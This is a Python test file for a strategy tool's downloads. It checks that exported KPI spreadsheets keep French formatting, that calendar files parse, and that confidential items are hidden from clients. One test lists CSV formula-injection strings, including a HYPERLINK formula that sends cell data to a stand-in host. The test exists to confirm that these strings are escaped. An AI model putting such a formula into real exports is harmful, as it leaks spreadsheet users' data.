"""kpis.csv opens in a spreadsheet with its accents; events.ics parses as a calendar."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import icalendar

from strategy_bible.render.client_view import ClientView
from strategy_bible.render.downloads import events_ics, kpis_csv
from strategy_bible.render.labels import Labels
from strategy_bible.strategy.validation import load_strategy
from strategy_bible.strategy.visibility import Readership, visible_to

from support import FIXTURES

CONTRACT = FIXTURES / "valid" / "contract-example.yml"
CONFIDENTIAL = FIXTURES / "valid" / "confidential.yml"


def view(path=CONTRACT, audience=Readership.CLIENT):
    return ClientView(path.stem, path.name, visible_to(audience, load_strategy(path)))


def test_csv_french_semicolons_decimal_comma_and_bom():
    data = kpis_csv(view(), Labels("fr"), decimal_comma=True)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [r["id"] for r in rows] == ["ig-followers", "reach-revenue"]
    first = rows[0]
    assert first == {
        "id": "ig-followers",
        "name": "Instagram followers",
        "objective": "local-notoriety",
        "unit": "count",
        "baseline": "1200",
        "target": "2000",
        "latest_value": "1330",
        "latest_date": "2026-02-28",
        "progress": "0,1625",
        "expected_pace": "0,1616",
        "verdict": "Succès",
        "decision": "Continuer",
    }
    assert rows[1]["unit"] == "EUR" and rows[1]["decision"] == "Arrêter les frais ou pivoter"


def test_csv_english_commas():
    rows = list(csv.reader(io.StringIO(kpis_csv(view(), Labels("en"), decimal_comma=False).decode("utf-8-sig"))))
    assert rows[1][8] == "0.1625" and rows[1][10] == "Success"


def test_ics_events_with_place_description_and_time_zone():
    calendar = icalendar.Calendar.from_ical(events_ics(view(), "Europe/Paris"))
    events = calendar.walk("VEVENT")
    assert len(events) == 1
    breakfast = events[0]
    assert str(breakfast["summary"]) == "Neighbours' breakfast"
    assert breakfast.decoded("dtstart") == dt.datetime(2026, 3, 14, 8, 30, tzinfo=ZoneInfo("Europe/Paris"))
    assert breakfast.decoded("dtend") == dt.datetime(2026, 3, 14, 10, 30, tzinfo=ZoneInfo("Europe/Paris"))
    assert str(breakfast["location"]) == "Bakehouse, 12 rue d'Austerlitz, Lyon"
    assert "croissants" in str(breakfast["description"])
    assert str(breakfast["uid"]) == "breakfast-march@contract-example.strategy-bible"
    assert calendar.walk("VTIMEZONE")


def test_downloads_follow_the_audience():
    client = view(CONFIDENTIAL)
    csv_text = kpis_csv(client, Labels("fr"), True).decode("utf-8-sig")
    ics_text = events_ics(client, "Europe/Paris").decode()
    assert "zanzibar" not in (csv_text + ics_text).lower()
    internal = view(CONFIDENTIAL, Readership.INTERNAL)
    assert "zanzibar" in kpis_csv(internal, Labels("fr"), True).decode("utf-8-sig").lower()
    assert "zanzibar" in events_ics(internal, "Europe/Paris").decode().lower()


def test_all_day_event_ends_the_day_after():
    from builders import objective, strategy

    s = strategy(
        objectives=[objective()],
        events=[{"id": "fair", "title": "Fair", "start": "2026-06-01", "end": "2026-06-02", "objectives": ["o"]}],
    )
    calendar = icalendar.Calendar.from_ical(
        events_ics(ClientView("x", "x", visible_to(Readership.CLIENT, s)), "Europe/Paris")
    )
    fair = calendar.walk("VEVENT")[0]
    assert fair.decoded("dtstart") == dt.date(2026, 6, 1)
    assert fair.decoded("dtend") == dt.date(2026, 6, 3)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+33 6 12 34 56 78",
    "-20 % churn",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers():
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading '."""
    from builders import kpi, objective, strategy

    kpis = [
        kpi([("2026-02-01", -1.5)], kpi_id=f"k{n}", name=name, baseline=(-3, "2025-12-31"), target=(-1, "2026-12-31"))
        for n, name in enumerate(FORMULAS)
    ]
    data = kpis_csv(
        ClientView("x", "x", visible_to(Readership.CLIENT, strategy(objectives=[objective()], kpis=kpis))),
        Labels("en"),
        decimal_comma=False,
    )
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row["name"] for row in rows] == ["'" + name for name in FORMULAS]
    for row in rows:
        assert (row["baseline"], row["target"], row["latest_value"]) == ("-3", "-1", "-1.5")
        assert row["progress"] == "0.75" and not row["id"].startswith("'")
    plain = kpis_csv(view(), Labels("fr"), decimal_comma=True).decode("utf-8-sig")
    assert "'" not in plain.replace("Neighbours'", "")  # ordinary text is written as it is


def test_csv_numbers_are_written_in_full_never_with_an_exponent():
    """A spreadsheet reads 1234567.5 back as it was; 1.23457e+06 lost digits."""
    from builders import kpi, objective, strategy

    big = kpi(
        [("2026-02-01", 1234567.5)],
        kpi_id="big",
        baseline=(1000000.25, "2025-12-31"),
        target=(10**15 - 0.5, "2026-12-31"),
    )
    tiny = kpi([("2026-02-01", -0.00001)], kpi_id="tiny", baseline=(0, "2025-12-31"), target=(1, "2026-12-31"))
    view_ = ClientView("x", "x", visible_to(Readership.CLIENT, strategy(objectives=[objective()], kpis=[big, tiny])))
    for comma, point in ((False, "."), (True, ",")):
        rows = list(
            csv.DictReader(
                io.StringIO(
                    kpis_csv(view_, Labels("fr" if comma else "en"), decimal_comma=comma).decode("utf-8-sig"),
                    newline="",
                ),
                delimiter=";" if comma else ",",
            )
        )
        assert (rows[0]["baseline"], rows[0]["target"], rows[0]["latest_value"]) == (
            f"1000000{point}25",
            f"999999999999999{point}5",
            f"1234567{point}5",
        )
        assert rows[1]["latest_value"] == "0"
